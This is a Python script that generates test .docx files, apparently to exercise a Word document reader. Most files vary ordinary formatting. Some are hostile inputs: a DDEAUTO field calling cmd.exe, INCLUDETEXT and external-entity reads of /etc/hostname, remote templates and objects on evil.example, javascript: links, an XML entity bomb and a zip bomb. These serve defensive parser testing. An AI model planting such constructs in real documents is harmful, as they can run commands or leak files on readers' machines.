"""Make the Word documents beside this file as other programs make them; run by hand, what it makes is kept.

``python make_files.py`` needs python-docx; LibreOffice, pandoc and node with the package docx (named by
DOCX_NPM, the folder of its node_modules) for the files that they make. A program that is not there leaves its
files as they are.
"""

import os
import shutil
import struct
import subprocess
import tempfile
import zipfile
import zlib
from io import BytesIO
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

HERE = Path(__file__).resolve().parent
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
STRICT = "http://purl.oclc.org/ooxml/wordprocessingml/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
STRICT_R = "http://purl.oclc.org/ooxml/officeDocument/relationships"
SPACES = (
    f'xmlns:w="{W}" xmlns:r="{R}" xmlns:v="urn:schemas-microsoft-com:vml" '
    'xmlns:o="urn:schemas-microsoft-com:office:office" '
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" '
    'xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape" '
    'xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" '
    'xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math" '
    'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
)
HEAD = "Gull Island reading room opens"
LEAD = "The reading room on Gull Island opened its doors on Monday, the harbor office said."
HAN_HEAD = "云汀市社区书屋正式开放"
HAN_LEAD = "云汀市首家社区书屋于本周一正式开放，当天接待读者三百余人，居民反映良好。"


def png(width: int = 8, height: int = 6) -> bytes:
    """Return a plain PNG."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = (b"\0" + b"\x2a\x6a\x9a" * width) * height
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


def p(text: str = "", style: str = "", look: str = "", extra: str = "", inside: str = "") -> str:
    """Return a paragraph: its text in one run with the properties ``look``, ``inside`` as it is."""
    properties = (f'<w:pStyle w:val="{style}"/>' if style else "") + extra
    run = f'<w:r><w:rPr>{look}</w:rPr><w:t xml:space="preserve">{escape(text)}</w:t></w:r>' if text else ""
    return f"<w:p><w:pPr>{properties}</w:pPr>{run}{inside}</w:p>"


def r(content: str) -> str:
    """Return a run of ``content``."""
    return f"<w:r>{content}</w:r>"


def t(text: str) -> str:
    """Return a run of text."""
    return r(f'<w:t xml:space="preserve">{escape(text)}</w:t>')


def style(number: str, name: str, inside: str = "", kind: str = "paragraph") -> str:
    """Return a style."""
    return f'<w:style w:type="{kind}" w:styleId="{number}"><w:name w:val="{name}"/>{inside}</w:style>'


def num(number: int, levels: list[tuple[str, str]]) -> str:
    """Return a numbering whose levels have a form and a text each."""
    made = "".join(
        f'<w:lvl w:ilvl="{n}"><w:start w:val="1"/><w:numFmt w:val="{form}"/><w:lvlText w:val="{text}"/></w:lvl>'
        for n, (form, text) in enumerate(levels)
    )
    return f'<w:abstractNum w:abstractNumId="{number}">{made}</w:abstractNum>'


def item(number: int, level: int = 0) -> str:
    """Return the properties of an item."""
    return f'<w:numPr><w:ilvl w:val="{level}"/><w:numId w:val="{number}"/></w:numPr>'


def inline(relation: str, alt: str = "", mode: str = "embed") -> str:
    """Return a picture in DrawingML."""
    return (
        f'<w:drawing><wp:inline><wp:extent cx="80000" cy="60000"/><wp:docPr id="1" name="Picture 1" descr="{alt}"/>'
        f'<a:graphic><a:graphicData uri="x"><pic:pic><pic:blipFill><a:blip r:{mode}="{relation}"/>'
        "</pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing>"
    )


def box(inside: str) -> str:
    """Return a text box as Word writes it: DrawingML, and VML for older programs."""
    return (
        '<mc:AlternateContent><mc:Choice Requires="wps"><w:drawing><wp:anchor><wp:docPr id="7" name="Box"/>'
        f"<a:graphic><a:graphicData><wps:wsp><wps:txbx><w:txbxContent>{inside}</w:txbxContent></wps:txbx></wps:wsp>"
        "</a:graphicData></a:graphic></wp:anchor></w:drawing></mc:Choice><mc:Fallback><w:pict><v:textbox>"
        f"<w:txbxContent>{inside}</w:txbxContent></v:textbox></w:pict></mc:Fallback></mc:AlternateContent>"
    )


def table(*rows: tuple[str, ...], head: bool = False) -> str:
    """Return a table of cells that are XML."""
    made = ""
    for number, cells in enumerate(rows):
        first = "<w:trPr><w:tblHeader/></w:trPr>" if head and number == 0 else ""
        made += f"<w:tr>{first}{''.join(f'<w:tc>{cell}</w:tc>' for cell in cells)}</w:tr>"
    return f"<w:tbl><w:tblPr/>{made}</w:tbl>"


def package(
    body: str,
    *,
    styles: str = "",
    numbering: str = "",
    parts: dict[str, tuple[str, bytes]] | None = None,
    links: dict[str, tuple[str, str]] | None = None,
    loose: dict[str, bytes] | None = None,
    strict: bool = False,
) -> bytes:
    """Return a document: ``parts`` by target (kind, bytes), ``links`` by id (kind, address), ``loose`` unrelated."""
    space = SPACES.replace(W, STRICT).replace(R, STRICT_R) if strict else SPACES
    kinds = STRICT_R if strict else R
    head = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    parts = dict(parts or {})
    w = f'xmlns:w="{STRICT if strict else W}"'
    if styles:
        parts["styles.xml"] = ("styles", f"{head}<w:styles {w}>{styles}</w:styles>".encode())
    if numbering:
        nums = "".join(
            f'<w:num w:numId="{n}"><w:abstractNumId w:val="{n}"/></w:num>'
            for n in range(1, 1 + numbering.count("<w:abstractNum "))
        )
        parts["numbering.xml"] = (
            "numbering",
            f"{head}<w:numbering {w}>{numbering}{nums}</w:numbering>".encode(),
        )
    relations = "".join(
        f'<Relationship Id="p{n}" Type="{kinds}/{kind}" Target="{name}"/>'
        for n, (name, (kind, _)) in enumerate(parts.items(), 1)
    ) + "".join(
        f'<Relationship Id="{number}" Type="{kinds}/{kind}" Target="{escape(to)}" TargetMode="External"/>'
        for number, (kind, to) in (links or {}).items()
    )
    rel = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
    types = (
        f'{head}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/>'
        '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        'wordprocessingml.document.main+xml"/></Types>'
    )
    files = {
        "[Content_Types].xml": types.encode(),
        "_rels/.rels": f'{head}<Relationships {rel}><Relationship Id="r" Type="{kinds}/officeDocument" '
        'Target="word/document.xml"/></Relationships>'.encode(),
        "word/document.xml": f"{head}<w:document {space}><w:body>{body}</w:body></w:document>".encode(),
        "word/_rels/document.xml.rels": f"{head}<Relationships {rel}>{relations}</Relationships>".encode(),
        **{f"word/{name}": data for name, (_, data) in parts.items()},
        **(loose or {}),
    }
    return zipped(files)


def zipped(files: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Return an archive, the same bytes for the same files."""
    stream = BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            info = zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0))
            info.compress_type = method
            archive.writestr(info, data)
    return stream.getvalue()


def begin(title: str = HEAD, lead: str = LEAD) -> str:
    """Return headline and first paragraph."""
    return p(title) + p(lead)


def shown(code: str, result: str) -> str:
    """Return a complex field and what it shows."""
    kinds = {kind: r(f'<w:fldChar w:fldCharType="{kind}"/>') for kind in ("begin", "separate", "end")}
    asked = r(f"<w:instrText>{escape(code)}</w:instrText>")
    return kinds["begin"] + asked + kinds["separate"] + t(result) + kinds["end"]


def change(kind: str, inside: str) -> str:
    """Return a tracked change."""
    return f'<w:{kind} w:id="1" w:author="Wen Lu" w:date="2026-03-05T00:00:00Z">{inside}</w:{kind}>'


def by_hand() -> dict[str, bytes]:
    """Return the documents that are written here, part by part."""
    picture = {"media/image1.png": ("image", png())}
    plain = style("a", "Normal", '<w:rPr><w:sz w:val="24"/></w:rPr>').replace(
        "<w:style ", '<w:style w:default="1" '
    )
    field = '<w:fldChar w:fldCharType="{}"/>'
    wps = style(
        "1", "heading 1", '<w:pPr><w:outlineLvl w:val="0"/></w:pPr><w:rPr><w:b/><w:sz w:val="44"/></w:rPr>'
    )
    return {
        "hand-nested-tables": package(
            begin()
            + table(
                (p("Hours"), p("Place")),
                (p("9 to 5"), table((p("North pier"), p("Gate 2"))) + p("by the lamp")),
                head=True,
            )
        ),
        "hand-merged-cells": package(
            begin()
            + table(
                ('<w:tcPr><w:gridSpan w:val="2"/></w:tcPr>' + p("Both halves"),),
                ('<w:tcPr><w:vMerge w:val="restart"/></w:tcPr>' + p("Left, twice"), p("Upper")),
                ("<w:tcPr><w:vMerge/></w:tcPr>" + p(), p("Lower")),
            )
        ),
        "hand-controls-in-table": package(
            begin()
            + "<w:tbl><w:tblPr/><w:sdt><w:sdtContent><w:tr><w:sdt><w:sdtContent><w:tc>"
            + p("Name in a control")
            + "</w:tc></w:sdtContent></w:sdt><w:tc>"
            + p(inside=f"<w:sdt><w:sdtContent>{t('Inline control')}</w:sdtContent></w:sdt>")
            + "</w:tc></w:tr></w:sdtContent></w:sdt></w:tbl>"
        ),
        "hand-text-boxes": package(
            begin()
            + p("The day in figures.", inside=r(box(p("300 visitors in a box") + p("120 books in a box"))))
            + p(
                inside=r(
                    f"<w:pict><v:shape><v:textbox><w:txbxContent>{p('An older box')}</w:txbxContent></v:textbox>"
                    "</v:shape></w:pict>"
                )
            )
        ),
        "hand-pictures": package(
            begin()
            + p(inside=r(inline("p1", "Shelves by the window")))
            + p("The shelves by the window. Photo by Lu Wen", extra='<w:jc w:val="center"/>')
            + p("After the first picture the text goes on for a sentence.")
            + p(inside=r('<w:pict><v:shape alt="The lamp"><v:imagedata r:id="p2"/></v:shape></w:pict>'))
            + p("The lamp at night", style="c")
            + p(inside=r(inline("far", "A picture elsewhere", "link")))
            + p(inside=r(inline("p3")))
            + p("The last words."),
            styles=style("c", "caption"),
            parts={
                **picture,
                "media/image2.png": ("image", png(9, 9)),
                "media/image3.emf": ("image", b"\1\0\0\0emf"),
            },
            links={"far": ("image", "https://example.com/far.png")},
        ),
        "hand-old-styles": package(
            p(HEAD, "t")
            + p(LEAD, "b")
            + p("What it holds", "h")
            + p("Five hundred books.", "b")
            + p("“A gift.”", "q"),
            styles=plain
            + style("t", "Title")
            + style("b", "Body Text", '<w:basedOn w:val="a"/>')
            + style("base", "Chapter", '<w:pPr><w:outlineLvl w:val="1"/></w:pPr>')
            + style("h", "My heading", '<w:basedOn w:val="base"/>')
            + style("q", "Intense Quote"),
        ),
        "hand-chinese-numbering": package(
            p(HAN_HEAD)
            + p(HAN_LEAD)
            + p("书屋概况", extra=item(1))
            + p("藏书情况", extra=item(1, 1))
            + p("藏书五千余册，涵盖文学、历史、少儿等门类。")
            + p("阅览环境", extra=item(1, 1))
            + p("书屋设座位六十个，全天供应热水，并配有老花镜。")
            + p("开放时间", extra=item(1))
            + p("周一至周五", extra=item(2))
            + p("周末全天", extra=item(2))
            + p("首条规定", extra=item(3)),
            numbering=num(1, [("chineseCountingThousand", "%1、"), ("chineseCountingThousand", "（%2）")])
            + num(2, [("decimal", "%1．")])
            + num(3, [("chineseCounting", "第%1条")]),
        ),
        "hand-lists": package(
            begin()
            + p("Bring a card", extra=item(1))
            + p("Bring a pen", extra=item(1))
            + p("A blue one", extra=item(1, 1))
            + p("Then:")
            + p("Sign", extra=item(2))
            + p("Read", extra=item(2))
            + p("A remark between.")
            + p("Return", extra=item(2))
            + p("Appendix part", extra=item(3)),
            numbering=num(1, [("bullet", "\uf0b7"), ("bullet", "o")])
            + num(2, [("decimal", "%1.")])
            + num(3, [("upperRoman", "%1)")]),
        ),
        "hand-tracked-changes": package(
            begin()
            + p(
                "It is ",
                inside=change("del", r("<w:delText>never </w:delText>"))
                + change("ins", t("always "))
                + t("free."),
            )
            + p(inside=change("moveFrom", t("A sentence on its way.")))
            + "<w:p><w:pPr><w:rPr>"
            + change("del", "")
            + "</w:rPr></w:pPr>"
            + t("Joined to")
            + "</w:p>"
            + p(" what follows it.")
            + p(inside=change("moveTo", t("A sentence on its way.")))
            + "<w:tbl><w:tblPr/><w:tr><w:tc>"
            + p("Stays")
            + "</w:tc></w:tr><w:tr><w:trPr>"
            + change("del", "")
            + "</w:trPr><w:tc>"
            + p("Goes")
            + "</w:tc></w:tr></w:tbl>"
        ),
        "hand-fields": package(
            begin()
            + p("Contents line", "toc")
            + p(
                "See ",
                inside=r(field.format("begin"))
                + r('<w:instrText> HYPERLINK "https://example.com/room" </w:instrText>')
                + r(field.format("separate"))
                + t("the room's page")
                + r(field.format("end"))
                + t(" for more."),
            )
            + p(
                "Printed on ",
                inside='<w:fldSimple w:instr="DATE">'
                + t("March 5, 2026")
                + "</w:fldSimple>"
                + t(" at the pier."),
            )
            + p(inside='<w:hyperlink r:id="bad">' + t("A link to run") + "</w:hyperlink>" + t(" is no link."))
            + p(inside='<w:hyperlink r:id="good">' + t("A link to follow") + "</w:hyperlink>"),
            styles=style("toc", "toc 1"),
            links={"bad": ("hyperlink", "file:///c:/run.exe"), "good": ("hyperlink", "https://example.com/")},
        ),
        "hand-signs": package(
            begin()
            + p(
                "Open ",
                inside=r('<w:sym w:font="Wingdings" w:char="F0FC"/>')
                + t(" and ")
                + r('<w:sym w:font="Nobody" w:char="F041"/>')
                + t("60 m")
                + '<w:r><w:rPr><w:vertAlign w:val="superscript"/></w:rPr><w:t>2</w:t></w:r>',
            )
            + p(
                inside=r(
                    "<w:ruby><w:rubyPr/><w:rt>"
                    + t("shūwū")
                    + "</w:rt><w:rubyBase>"
                    + t("书屋")
                    + "</w:rubyBase></w:ruby>"
                )
                + t(" is its name.")
            )
            + p("By ", inside="<m:oMath><m:r><m:t>a+b=c</m:t></m:r></m:oMath>" + t(" it is."))
            + p(
                "Well",
                inside=r("<w:noBreakHyphen/><w:t>lit</w:t><w:tab/><w:t>room</w:t>")
                + r("<w:dayLong/>")
                + "<w:unheard>"
                + t("of this")
                + "</w:unheard>",
            )
            + p(
                "Seen",
                inside="<w:r><w:rPr><w:vanish/></w:rPr><w:t>unseen</w:t></w:r>"
                + "<w:r><w:rPr><w:strike/></w:rPr><w:t> struck</w:t></w:r>"
                + '<w:r><w:rPr><w:em w:val="dot"/></w:rPr><w:t> dotted</w:t></w:r>',
            )
        ),
        "hand-notes": package(
            begin()
            + p(
                "A third came by boat",
                inside=r('<w:footnoteReference w:id="2"/>')
                + t(".")
                + r('<w:endnoteReference w:id="3"/>')
                + r('<w:footnoteReference w:id="9"/>')
                + r('<w:commentReference w:id="1"/>'),
            ),
            parts={
                "footnotes.xml": (
                    "footnotes",
                    f'<w:footnotes xmlns:w="{W}"><w:footnote w:id="2">{p("Counted at the gate.")}'
                    "</w:footnote></w:footnotes>".encode(),
                ),
                "endnotes.xml": (
                    "endnotes",
                    f'<w:endnotes xmlns:w="{W}"><w:endnote w:id="3">{p("Harbor office.")}'
                    "</w:endnote></w:endnotes>".encode(),
                ),
                "comments.xml": (
                    "comments",
                    f'<w:comments xmlns:w="{W}"><w:comment w:id="1"/></w:comments>'.encode(),
                ),
            },
        ),
        "hand-page-breaks": package(
            begin()
            + p("Page one ends here.", inside=r('<w:br w:type="page"/>'))
            + p("Page two begins here.")
            + p("Page three begins here.", extra="<w:pageBreakBefore/>")
            + p("The last line.", inside=r('<w:br w:type="page"/>'))
        ),
        "hand-looks": package(
            p("新闻稿")
            + p(HAN_HEAD, look='<w:b/><w:sz w:val="44"/>', extra='<w:jc w:val="center"/>')
            + p(HAN_LEAD)
            + p("开放首日", look="<w:b/>")
            + p("首日共有三百余位居民到馆，借出图书一百二十册。")
            + p("今后安排", look='<w:sz w:val="32"/>', extra='<w:jc w:val="center"/>')
            + p("书屋每周六上午举办读书会，欢迎市民报名参加。", "s")
            + p(
                "另有", inside='<w:r><w:rPr><w:rStyle w:val="e"/></w:rPr><w:t>新书</w:t></w:r>' + t("上架。")
            ),
            styles=plain
            + style("s", "Lead", "<w:rPr><w:b/></w:rPr>")
            + style("e", "Strong", "<w:rPr><w:b/></w:rPr>", "character"),
        ),
        "hand-wps": package(
            p(HAN_HEAD, "1")
            + p("来源：云汀日报　2026年3月5日")
            + p(HAN_LEAD)
            + p("书屋由旧仓库改建而成。", extra='<w:ind w:firstLineChars="200"/>')
            + p("（记者 温澜）")
            + "<w:sectPr/>",
            styles=plain + wps,
        ),
        "hand-google-docs": package(
            p(HEAD, "Title", extra='<w:pageBreakBefore w:val="0"/>')
            + p("A room for everybody", "Subtitle")
            + p(
                inside='<w:r><w:rPr><w:rtl w:val="0"/></w:rPr><w:t xml:space="preserve">'
                + LEAD
                + "</w:t></w:r>"
            )
            + p("Hours", "Heading2")
            + p("Nine to five", extra=item(1))
            + p(
                inside='<w:hyperlink r:id="l"><w:r><w:rPr><w:color w:val="1155cc"/><w:u w:val="single"/></w:rPr>'
                "<w:t>Book a seat</w:t></w:r></w:hyperlink>"
            ),
            styles=style("Title", "Title") + style("Subtitle", "Subtitle") + style("Heading2", "heading 2"),
            numbering=num(1, [("bullet", "●")]),
            links={"l": ("hyperlink", "https://example.com/seat")},
        ),
        "hand-soft-lines": package(
            p(inside=r("<w:t>云汀市社区书屋</w:t><w:br/><w:t>正式开放</w:t>"))
            + p(
                inside=r(
                    f"<w:t>{HAN_LEAD}</w:t><w:br/><w:br/><w:t>　　第二段说的是书屋的来历和改建经过。</w:t>"
                )
            )
        ),
        "hand-letterhead": package(
            p(inside=r(inline("p1", "Harbor sign")))
            + p("FOR IMMEDIATE RELEASE")
            + table((p(HEAD),))
            + p(LEAD),
            parts=picture,
        ),
        "hand-strict": package(
            begin() + p("Strict, and bold", look='<w:b w:val="true"/>') + p("The end of it."), strict=True
        ),
        "hand-macros": package(begin(), loose={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}),
        "hand-remote": package(
            begin() + '<w:altChunk r:id="p1"/>' + p("After the chunk."),
            parts={
                "chunk.html": ("aFChunk", b"<script>1</script>"),
                "settings.xml": ("settings", f'<w:settings xmlns:w="{W}"/>'.encode()),
            },
            loose={
                "word/_rels/settings.xml.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                b'relationships"><Relationship Id="t" Type="x/attachedTemplate" Target="https://example.com/evil.dotm" '
                b'TargetMode="External"/></Relationships>'
            },
        ),
        "hand-objects": package(
            begin()
            + p(
                "A sheet: ",
                inside=r('<w:object><v:shape><v:imagedata r:id="p1"/></v:shape><o:OLEObject/></w:object>')
                + t(" here."),
            )
            + p(
                inside=r(
                    '<w:drawing><wp:inline><wp:docPr id="3" name="C" descr="Visits by month"/><a:graphic>'
                    '<a:graphicData><c:chart r:id="x"/></a:graphicData></a:graphic></wp:inline></w:drawing>'
                )
            ),
            parts=picture,
        ),
        "hand-fields-that-run": package(
            begin()
            + p("Now: ", inside=shown("DDEAUTO c:\\\\windows\\\\cmd.exe", "noon"))
            + p("And: ", inside=shown('INCLUDETEXT "file:///etc/hostname"', "two o’clock"))
            + p("Seen: ", inside=shown('INCLUDEPICTURE "http://evil.example/x.png" \\d', "a picture"))
            + p(inside=f'<w:fldSimple w:instr="MACROBUTTON Run press">{t("Press here")}</w:fldSimple>')
        ),
        "hand-links-outside": package(
            begin()
            + p("A wall: ", inside=r(inline("web", "A wall", "link")) + t("painted blue."))
            + p(inside=r('<w:pict><v:shape><v:imagedata r:id="share" o:href="x"/></v:shape></w:pict>'))
            + p(inside=f'<w:hyperlink r:id="script">{t("Press this")}</w:hyperlink>')
            + p(inside=f'<w:hyperlink r:id="file">{t("or that")}</w:hyperlink>')
            + p(inside=r('<w:object><o:OLEObject Type="Link" r:id="sheet"/></w:object>') + t("a sheet"))
            + p(inside=r('<w:control r:id="control"/>') + t("a button"))
            + '<w:subDoc r:id="rest"/>'
            + p("The last line."),
            links={
                "web": ("image", "http://evil.example/x.png"),
                "share": ("image", "file://evil.example/share/x.png"),
                "script": ("hyperlink", "javascript:alert(1)"),
                "file": ("hyperlink", "file:///etc/hostname"),
                "sheet": ("oleObject", "http://evil.example/x.xls"),
                "control": ("control", "http://evil.example/x.ocx"),
                "rest": ("subDocument", "http://evil.example/x.docx"),
            },
        ),
        "hand-broken-styles": package(
            begin() + p("Still read.", "none"),
            parts={"styles.xml": ("styles", b"<w:styles"), "gone.xml": ("numbering", b"<a/>")},
        ),
        "hand-broken-text": package(begin() + "<w:p>"),
        "hand-no-word": zipped({"mimetype": b"text/plain"}),
    }


def with_python_docx() -> dict[str, bytes]:
    """Return the documents that python-docx makes."""
    from docx import Document

    document: Any = Document()
    document.add_heading(HEAD, 0)
    document.add_paragraph(LEAD)
    document.add_heading("What it holds", 1)
    document.add_paragraph("Books", style="List Bullet")
    document.add_paragraph("Sign in", style="List Number")
    document.add_paragraph("A gift to all.", style="Intense Quote")
    made = document.add_table(2, 2, style="Light Grid Accent 1")
    for cell, text in zip(made._cells, ("Day", "Hours", "Monday", "9 to 5"), strict=True):
        cell.text = text
    document.add_picture(BytesIO(png()))
    document.add_paragraph("The room", style="Caption")
    document.add_page_break()
    document.add_paragraph("The last page.")
    for style_ in list(document.styles)[::-1]:
        if style_.type == 3 and style_.name not in ("Normal Table", "Light Grid Accent 1"):
            style_.element.getparent().remove(style_.element)
    return {"python-docx": _saved(document)}


def _saved(document: Any) -> bytes:
    stream = BytesIO()
    document.save(stream)
    with zipfile.ZipFile(BytesIO(stream.getvalue())) as archive:
        kept = {n: archive.read(n) for n in archive.namelist() if "thumbnail" not in n}
    kept["_rels/.rels"] = b"".join(
        part + b">" for part in kept["_rels/.rels"].split(b">")[:-1] if b"thumbnail" not in part
    )
    return zipped(kept)


MARKDOWN = f"""---
title: {HEAD}
author: Wen Lu
date: March 5, 2026
---

{LEAD} It is **free** and *warm*.[^1]

# What it holds

1. Books
2. Maps

- A lamp
    - A small one

> A gift to all.

| Day    | Hours  |
|--------|--------|
| Monday | 9 to 5 |

: Opening hours

![The room](room.png)

***

See [the page](https://example.com/room).

[^1]: Counted at the gate.
"""


def with_pandoc() -> dict[str, bytes]:
    """Return the documents that pandoc makes."""
    if not shutil.which("pandoc"):
        return {}
    made = {}
    han = f"% {HAN_HEAD}\n\n{HAN_LEAD}\n\n## 一、概况\n\n藏书**五千余册**。\n\n| 日期 | 时间 |\n|--|--|\n| 周一 | 全天 |\n"
    with tempfile.TemporaryDirectory() as folder:
        (Path(folder) / "room.png").write_bytes(png())
        for name, text in (("pandoc", MARKDOWN), ("pandoc-han", han)):
            out = Path(folder) / f"{name}.docx"
            command = ["pandoc", "-f", "markdown", "-t", "docx", "-o", str(out)]
            subprocess.run(command, input=text.encode(), cwd=folder, check=True)
            made[name] = out.read_bytes()
    return made


HTML = f"""<html><head><meta charset="utf-8"></head><body><h1>{HAN_HEAD}</h1><p>{HAN_LEAD}</p><h2>概况</h2>
<ul><li>藏书<b>五千余册</b></li><li>座位六十个</li></ul><ol><li>登记</li><li>借阅</li></ol>
<table border="1"><thead><tr><th>日期</th><th>时间</th></tr></thead><tr><td>周一</td><td>全天</td></tr></table>
<blockquote>书屋是邻里的客厅。</blockquote><hr><p>详见<a href="https://example.com/shuwu">书屋主页</a>。</p></body></html>"""


def with_libreoffice() -> dict[str, bytes]:
    """Return the documents that LibreOffice makes: of a page, of a text, of an OpenDocument text, and saved again."""
    if not shutil.which("soffice"):
        return {}
    made = {}
    with tempfile.TemporaryDirectory() as folder:
        room = Path(folder)
        jobs = {
            "libreoffice-html": ("page.html", HTML.encode(), "HTML (StarWriter)"),
            "libreoffice-text": (
                "text.txt",
                f"{HEAD}\n{LEAD}\nThe last line of a text.\n".encode(),
                "Text (encoded):UTF8",
            ),
            "libreoffice-again": ("again.docx", by_hand()["hand-lists"], ""),
            "libreoffice-boxes": ("boxes.docx", by_hand()["hand-text-boxes"], ""),
        }
        for name, (file, data, kind) in jobs.items():
            (room / file).write_bytes(data)
            asked = [f"--infilter={kind}"] if kind else []
            command = [
                "soffice", f"-env:UserInstallation=file://{folder}/profile", "--headless", *asked, "--convert-to",
                "docx:MS Word 2007 XML", "--outdir", f"{folder}/out", str(room / file),
            ]  # fmt: skip
            subprocess.run(command, check=True, capture_output=True)
            made[name] = (room / "out" / file).with_suffix(".docx").read_bytes()
    return made


SCRIPT = """
const d = require("docx"), fs = require("fs");
const p = (text, more = {}) => new d.Paragraph({ text, ...more });
const cell = (text) => new d.TableCell({ children: [p(text)] });
const doc = new d.Document({ sections: [{
  headers: { default: new d.Header({ children: [p("Harbor office")] }) },
  children: [
    p(process.argv[2], { heading: d.HeadingLevel.TITLE }), p(process.argv[3]),
    p("What it holds", { heading: d.HeadingLevel.HEADING_1 }),
    p("Books", { bullet: { level: 0 } }), p("Maps", { bullet: { level: 0 } }),
    new d.Paragraph({ children: [new d.TextRun("It is "), new d.TextRun({ text: "free", bold: true }),
      new d.ExternalHyperlink({ link: "https://example.com/room", children: [new d.TextRun(" to all")] }),
      new d.FootnoteReferenceRun(1)] }),
    new d.Paragraph({ children: [new d.ImageRun({ type: "png", data: fs.readFileSync(process.argv[4]),
      transformation: { width: 80, height: 60 }, altText: { name: "room", title: "room", description: "The room" } })] }),
    new d.Table({ rows: [new d.TableRow({ tableHeader: true, children: [cell("Day"), cell("Hours")] }),
      new d.TableRow({ children: [cell("Monday"), cell("9 to 5")] })] }),
    new d.Paragraph({ children: [new d.InsertedTextRun({ text: "Added later.", id: 1, author: "Wen", date: "2026-03-05" })] }),
  ] }], footnotes: { 1: { children: [p("Counted at the gate.")] } } });
d.Packer.toBuffer(doc).then((b) => fs.writeFileSync(process.argv[5], b));
"""


def with_npm() -> dict[str, bytes]:
    """Return the document that the package docx of npm makes."""
    modules = os.environ.get("DOCX_NPM", "")
    if not shutil.which("node") or not modules:
        return {}
    with tempfile.TemporaryDirectory() as folder:
        room = Path(folder)
        (room / "a.png").write_bytes(png())
        out = room / "a.docx"
        command = ["node", "-e", SCRIPT, "x", HEAD, LEAD, str(room / "a.png"), str(out)]
        subprocess.run(command, check=True, env={**os.environ, "NODE_PATH": modules})
        return {"docx-npm": out.read_bytes()}


def main() -> None:
    """Write all files."""
    made = {**by_hand(), **with_python_docx(), **with_pandoc(), **with_libreoffice(), **with_npm()}
    bomb = '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'
    with zipfile.ZipFile(BytesIO(made["hand-macros"])) as archive:
        files = {n: archive.read(n) for n in archive.namelist() if "vba" not in n}
    text = files["word/document.xml"].decode()
    files["word/document.xml"] = text.replace("?>", f"?>{bomb}", 1).replace("opened", "&b;").encode()
    made["hand-xml-bomb"] = zipped(files)
    outside = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hostname">]>'
    files["word/document.xml"] = text.replace("?>", f"?>{outside}", 1).replace("opened", "&b;").encode()
    made["hand-outside-entity"] = zipped(files)
    made["hand-zip-bomb"] = zipped({**files, "word/document.xml": b" " * (40 << 20)}, zipfile.ZIP_BZIP2)
    for name, data in made.items():
        (HERE / f"{name}.docx").write_bytes(data)


if __name__ == "__main__":
    main()
